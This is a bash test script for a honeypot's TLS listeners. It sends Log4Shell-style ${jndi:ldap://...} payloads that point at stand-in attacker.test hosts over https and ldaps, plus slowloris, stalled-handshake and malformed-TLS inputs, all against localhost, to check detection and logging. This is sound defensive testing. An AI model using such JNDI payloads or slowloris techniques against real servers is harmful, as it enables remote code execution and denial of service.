#!/usr/bin/env bash
# honeypot_tls.sh -- TLS listeners against real clients: ldapsearch over
# ldaps:// and curl over https:// with a ${jndi:...} payload, recorded with
# "tls": true, the protocol version, the SNI and the offered ALPN; the
# self-signed certificate generated at first start (key mode 0600) and kept
# across restarts; a refused certificate (curl without -k) recorded as a
# failed handshake with its SNI; a stalled handshake cut by header_timeout;
# plaintext on a TLS port and TLS on a plaintext port both served and
# recorded.
source "$(dirname "$0")/honeypot/common.sh"
command -v curl >/dev/null || { echo "SKIP: no curl"; exit 77; }
command -v ldapsearch >/dev/null || { echo "SKIP: no ldapsearch"; exit 77; }

read -r PH PL PP PQ < <(freeports 4)
cat >"$T/hp.conf" <<CONF
node tls-test
log_file $T/events.jsonl
state_dir $T/state
dedup_window 0
header_timeout 1s
max_requests 1000
max_body 8K
[listener web-tls]
protocol https
listen 127.0.0.1:$PH
[listener ldap-tls]
protocol ldap
tls yes
listen 127.0.0.1:$PL
[listener web]
protocol http
listen 127.0.0.1:$PP
[listener ldap]
protocol ldap
listen 127.0.0.1:$PQ
CONF
"$DEFUSE" honeypot -c "$T/hp.conf" --check >/dev/null 2>"$T/check.err" ||
    fail "config with TLS listeners rejected: $(cat "$T/check.err")"
hp_start "$T/hp.conf"
EV=$T/events.jsonl

# ---- the certificate generated at first start ------------------------------------
[ -s "$T/state/tls-cert.pem" ] && [ -s "$T/state/tls-key.pem" ] || fail "no generated certificate/key in state_dir"
mode=$(stat -c %a "$T/state/tls-key.pem")
[ "$mode" = 600 ] || fail "key file mode $mode, want 600"
grep -q "BEGIN CERTIFICATE" "$T/state/tls-cert.pem" || fail "cert is not PEM"
ok "self-signed certificate generated, key mode 600"

# ---- curl over https:// with a payload in the path, with SNI ---------------------------
PAY='${jndi:ldap://https.attacker.test/a}'
code=$(curl -sk -g -o /dev/null -w '%{http_code}' --resolve "www.canary.test:$PH:127.0.0.1" \
    "https://www.canary.test:$PH/$PAY") || fail "curl https failed"
[ "$code" = 404 ] || fail "https request answered $code, want 404"
wait_events "$EV" '"event":"http.request"'
got=$(ev_query "$EV" "[e['tls'], e['tls_version'], e['tls_sni'], e['http']['uri']] if e['event'] == 'http.request' else None")
case "$got" in '[true, "TLSv1.'[23]'", "www.canary.test", "/'"$PAY"'"]') ;; *) fail "https event: $got" ;; esac
ev_query "$EV" "e['tls_alpn'] if e['event'] == 'http.request' else None" | grep -q '"http/1.1"' ||
    fail "offered ALPN not recorded"
ev_query "$EV" "[f['callback'] for f in e.get('findings', [])] if e['event'] == 'http.request' else None" |
    grep -q 'ldap://https.attacker.test/a' || fail "payload over https not detected"
ok "curl https: $got, payload detected"

# ---- ldapsearch over ldaps:// ---------------------------------------------------------------
st=0
LDAPTLS_REQCERT=never ldapsearch -x -H "ldaps://127.0.0.1:$PL" \
    -b 'cn=${jndi:ldap://ldaps.attacker.test/x},dc=corp' '(objectClass=*)' >"$T/ls.out" 2>&1 || st=$?
[ "$st" -eq 32 ] || fail "ldapsearch over ldaps should end with noSuchObject (32), got $st: $(cat "$T/ls.out")"
wait_events "$EV" '"event":"ldap.search"'
got=$(ev_query "$EV" "[e['tls'], e['listener']] if e['event'] == 'ldap.search' else None")
[ "$got" = '[true, "ldap-tls"]' ] || fail "ldaps search event: $got"
ev_query "$EV" "[f['callback'] for f in e.get('findings', []) if f['where'] == 'ldap:dn'] if e['event'] == 'ldap.search' else None" |
    grep -q 'ldap://ldaps.attacker.test/x' || fail "payload in the ldaps DN not detected"
url=$(ev_query "$EV" "e['ldap']['url'] if e['event'] == 'ldap.search' else None")
case "$url" in "ldaps://127.0.0.1:$PL/cn="*) ;; *) fail "callback url over TLS should be ldaps://, got $url" ;; esac
ok "ldapsearch ldaps: exit 32, event tls, payload in the DN detected, url $url"

# ---- 300 pipelined requests over TLS, read only after all were sent: the
# reader is paused while responses back up, and resumes from OpenSSL's buffer
n=$(python3 - "$PH" <<'PY'
import socket, ssl, sys
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
t = ctx.wrap_socket(socket.create_connection(("127.0.0.1", int(sys.argv[1]))), server_hostname="pipe.test")
req = b"GET /pipe HTTP/1.1\r\nHost: x\r\nX-Pad: " + b"a" * 3000 + b"\r\n\r\n"
t.sendall(req * 300)
t.settimeout(10)
got = b""
try:
    while got.count(b"HTTP/1.1 404") < 300:
        d = t.recv(65536)
        if not d:
            break
        got += d
except OSError:
    pass
print(got.count(b"HTTP/1.1 404"))
PY
)
[ "$n" = 300 ] || fail "pipelined requests over TLS: $n responses, want 300"
ok "300 pipelined requests over TLS (900 KB, read only at the end) all answered"

# ---- a certificate the client refuses: the handshake attempt is the event ------------------
st=0
curl -s -o /dev/null --resolve "refused.canary.test:$PH:127.0.0.1" "https://refused.canary.test:$PH/" || st=$?
[ "$st" -ne 0 ] || fail "curl accepted the self-signed certificate without -k"
wait_events "$EV" '"event":"tls.handshake_failed"'
got=$(ev_query "$EV" "[e['tls'], e['tls_sni']] if e['event'] == 'tls.handshake_failed' else None")
[ "$got" = '[true, "refused.canary.test"]' ] || fail "failed handshake event: $got"
ok "refused certificate: tls.handshake_failed with SNI ($(ev_query "$EV" "e['tls_error'] if e['event'] == 'tls.handshake_failed' else None" | head -1))"

# ---- a handshake that never completes is cut by header_timeout ------------------------------
el=$(python3 - "$PH" <<'PY'
import socket, sys, time
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
t = time.monotonic()
s.sendall(bytes.fromhex("16030100"))  # the start of a record, never finished
s.settimeout(5)
try:
    while s.recv(4096):
        pass
except OSError:
    pass
print(int((time.monotonic() - t) * 1000))
PY
)
[ "$el" -lt 3000 ] || fail "stalled handshake held the connection ${el} ms (header_timeout 1s)"
wait_events "$EV" '"reason":"handshake timeout"'
ok "stalled handshake closed after ${el} ms, recorded"

# ---- slowloris inside TLS: after the handshake, one record sent a byte at a
# time never decrypts; the whole-message deadline must still cut it
el=$(python3 - "$PH" <<'PY'
import socket, ssl, sys, time
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
obj = ctx.wrap_bio(inc, out, server_hostname="slow.test")
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5)
while True:
    try:
        obj.do_handshake()
        break
    except ssl.SSLWantReadError:
        s.sendall(out.read())
        inc.write(s.recv(65536))
s.sendall(out.read())
obj.write(b"GET /slow HTTP/1.1\r\nHost: x\r\nX-Pad: " + b"a" * 200 + b"\r\n\r\n")
rec = out.read()
t = time.monotonic()
s.settimeout(0.05)
for b in rec:  # 0.1 s a byte: about 24 s for the whole record
    try:
        s.sendall(bytes([b]))
        if s.recv(4096) == b"":
            break
    except socket.timeout:
        pass
    except OSError:
        break
    time.sleep(0.05)
    if time.monotonic() - t > 8:
        break
print(int((time.monotonic() - t) * 1000))
PY
)
[ "$el" -lt 4000 ] || fail "a TLS record trickled byte by byte held the connection ${el} ms (header_timeout 1s)"
ok "a TLS record trickled byte by byte cut after ${el} ms"

# ---- plaintext on a TLS port, TLS on a plaintext port ----------------------------------
code=$(curl -s -g -o /dev/null -w '%{http_code}' "http://127.0.0.1:$PH/plain/\${jndi:dns://plain.attacker.test/p}") || true
[ "$code" = 404 ] || fail "plaintext HTTP on the https port answered '$code', want 404"
wait_events "$EV" '"uri":"/plain/'
got=$(ev_query "$EV" "[e['tls'], e['tls_expected']] if e.get('http', {}).get('uri', '').startswith('/plain/') else None")
[ "$got" = '[false, true]' ] || fail "plaintext on the TLS port: $got"
st=0
ldapsearch -x -H "ldap://127.0.0.1:$PL" -b 'cn=plain-on-ldaps' '(objectClass=*)' >/dev/null 2>&1 || st=$?
[ "$st" -eq 32 ] || fail "plaintext ldapsearch on the ldaps port: exit $st"
wait_events "$EV" '"dn":"cn=plain-on-ldaps"'
code=$(curl -sk -o /dev/null -w '%{http_code}' "https://127.0.0.1:$PP/tls-on-plain") || true
[ "$code" = 404 ] || fail "https on the plaintext port answered '$code', want 404"
got=$(ev_query "$EV" "[e['tls'], e['tls_expected']] if e.get('http', {}).get('uri') == '/tls-on-plain' else None")
[ "$got" = '[true, false]' ] || fail "TLS on the plaintext port: $got"
st=0
LDAPTLS_REQCERT=never ldapsearch -x -H "ldaps://127.0.0.1:$PQ" -b 'cn=tls-on-ldap' '(objectClass=*)' >/dev/null 2>&1 || st=$?
[ "$st" -eq 32 ] || fail "ldaps on the plaintext ldap port: exit $st"
wait_events "$EV" '"dn":"cn=tls-on-ldap"'
ok "plaintext on TLS ports and TLS on plaintext ports served and recorded"

# ---- garbage that is neither: recorded, daemon alive ----------------------------------------
$PEERS send "$PH" "160301ffff$(printf 'ab%.0s' $(seq 1 64))" 1 >/dev/null || true
$PEERS send "$PL" "1603010005ffffffffff" 1 >/dev/null || true
kill -0 "$HP_PID" || fail "honeypot died on a malformed handshake"
n=$(grep -c '"event":"tls.handshake_failed"' "$EV" || true)
[ "$n" -ge 3 ] || fail "malformed handshakes should be recorded, found $n"
if grep -qF '${' "$EV"; then fail "a live \${ in the JSON log"; fi

# ---- restart: the certificate is kept ------------------------------------------------------
sum1=$(sha256sum <"$T/state/tls-cert.pem")
hp_stop
hp_start "$T/hp.conf"
sum2=$(sha256sum <"$T/state/tls-cert.pem")
[ "$sum1" = "$sum2" ] || fail "certificate regenerated on restart"
code=$(curl -sk -o /dev/null -w '%{http_code}' "https://127.0.0.1:$PH/") || fail "https after restart"
[ "$code" = 200 ] || fail "https after restart: $code"
hp_stop
ok "restart: same certificate, still serving"
echo "PASS"
